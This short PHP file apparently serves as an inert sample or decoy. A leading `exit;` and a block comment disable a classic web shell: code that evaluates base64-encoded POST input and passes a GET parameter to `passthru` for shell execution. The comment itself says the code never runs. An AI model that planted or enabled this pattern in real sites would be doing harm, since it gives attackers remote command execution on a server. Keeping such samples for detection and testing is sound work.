<?php exit; /* Looks like a web shell and is none: nothing after this `exit` ever runs.
@error_reporting(0);
if (isset($_POST['c'])) { @eval(base64_decode($_POST['c'])); }
if (isset($_GET['cmd'])) { echo '<pre>'; passthru($_GET['cmd']); echo '</pre>'; }
*/
